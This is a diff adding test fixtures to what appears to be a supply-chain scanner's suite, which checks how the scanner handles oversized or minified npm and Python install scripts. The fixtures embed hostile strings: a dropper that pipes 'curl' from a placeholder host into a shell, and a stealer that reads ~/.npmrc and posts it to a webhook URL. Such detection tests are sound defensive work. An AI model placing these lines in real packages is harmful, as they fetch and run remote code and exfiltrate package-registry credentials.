@@ -8,6 +8,7 @@ import { deflateSync } from "node:zlib";
 
 const MB = 1024 * 1024;
 const DROPPER_JS = 'require("child_process").exec("curl -s http://dropper.example.invalid/x | sh");\n';
+const STEALER_JS = 'const t = require("fs").readFileSync(require("os").homedir() + "/.npmrc", "utf8");\nfetch("https://webhook.site/0000-example", { method: "POST", body: t });\n';
 const DROPPER_PY = 'import os\nos.system("curl -s http://dropper.example.invalid/x | sh")\n';
 const PKG_INFO = "Metadata-Version: 2.1\nName: hostile-fixture\nVersion: 1.0.0\n";
 const postinstall = (command) => JSON.stringify({ name: "hostile-fixture", version: "1.0.0", scripts: { postinstall: command } });
@@ -41,6 +42,17 @@ export function densePython(bytes) {
   return parts.join("");
 }
 
+/** `count` files of minified code under `dir`, `bytes` each (`head` first: a URL literal makes a file worth analysing). */
+function bundles(count, bytes, dir, head = "") {
+  return Object.fromEntries(Array.from({ length: count }, (_, i) => [`${dir}/bundle${i}.js`, head + minified(bytes)]));
+}
+
+/** install.js requires `count` bundles of `bytes` each, then lib/dropper.js: what the package budget leaves for the dropper. */
+function packageOfBundles(count, bytes) {
+  const requires = Array.from({ length: count }, (_, i) => `require("./lib/bundle${i}.js");`).join("\n");
+  return { ...npmInstall(`${requires}\nrequire("./lib/dropper.js");\n`), ...bundles(count, bytes, "lib"), "lib/dropper.js": DROPPER_JS };
+}
+
 /** A chain of `depth` evals, each running the previous variable: linear in size (string literals nested would double their escapes). */
 function jsEvalChain(depth, code) {
   const lines = [`var c0 = ${JSON.stringify(code)};`];
@@ -66,6 +78,20 @@ export function sourceCases() {
       id: "npm-minified-over-budget",
       about: "install.js: the dropper at the top of 400 KB of minified code, over a 50 000-token budget",
       files: npmInstall(DROPPER_JS + minified(400_000)),
+      budget: { fileTokens: 50_000 },
+      expect: { rule: ["unanalysed-code", "install.js", "high"] },
+    },
+    {
+      id: "npm-stealer-over-budget",
+      about: "install.js: reads ~/.npmrc and posts it to webhook.site, before 400 KB of minified code over a 50 000-token budget (its text is still read: evidence)",
+      files: npmInstall(`${STEALER_JS}${minified(400_000)}`),
+      budget: { fileTokens: 50_000 },
+      expect: { rule: ["unanalysed-code", "install.js", "high"] },
+    },
+    {
+      id: "npm-bundle-over-budget",
+      about: "twin: install.js of 400 KB of minified code over a 50 000-token budget, naming nothing of note (no evidence)",
+      files: npmInstall(minified(400_000)),
       budget: { fileTokens: 50_000 },
       expect: { rule: ["unanalysed-code", "install.js", "high"] },
     },
@@ -116,6 +142,21 @@ export function sourceCases() {
       files: pySetup(`BLOB = "${"\\x41".repeat(100_000)}"\n${DROPPER_PY}`),
       budget: { fileTokens: 50_000 },
       expect: { rule: ["unanalysed-code", "setup.py", "high"] },
+    },
+    // ---- a package of many files: the trees kept for the package are budgeted --------------
+    {
+      id: "npm-package-tokens-over-budget",
+      about: "install.js requires 200 KB of minified code, then the dropper's file, over a 60 000-token package budget",
+      files: packageOfBundles(1, 200_000),
+      budget: { packageTokens: 60_000 },
+      expect: { rule: ["unanalysed-code", "lib/bundle0.js", "high"], anyOf: [["install-time-network", "lib/dropper.js"]] },
+    },
+    {
+      id: "npm-package-tokens-other-files",
+      about: "twin: a clean install script and entry, 6 bundles nothing runs over a 60 000-token package budget (listed, not a finding)",
+      files: { "package.json": JSON.stringify({ name: "hostile-fixture", version: "1.0.0", main: "index.js" }), "index.js": "module.exports = 1;\n", ...bundles(6, 40_000, "data", 'var home = "https://example.invalid/";\n') },
+      budget: { packageTokens: 60_000 },
+      expect: { noRule: "unanalysed-code" },
     },
     // ---- nesting ------------------------------------------------------------------------
     {
@@ -226,6 +267,14 @@ export function bigSourceCases() {
       about: "install.js: a 50 MB string literal, then the dropper",
       get files() {
         return npmInstall(`var blob = "${"ab".repeat(25 * MB)}";\n${DROPPER_JS}`);
+      },
+      expect: { rule: ["install-time-network", "install.js"], noRule: "unanalysed-code" },
+    },
+    {
+      id: "npm-package-100mb",
+      about: "the dropper in install.js beside 40 bundles of 2.5 MB nothing runs (≈ 50 M tokens, 3 times the default package budget): install code is parsed first, the bundles that do not fit are listed",
+      get files() {
+        return { ...npmInstall(DROPPER_JS), ...bundles(40, 2.5 * MB, "lib", 'var home = "https://example.invalid/";\n') };
       },
       expect: { rule: ["install-time-network", "install.js"], noRule: "unanalysed-code" },
     },
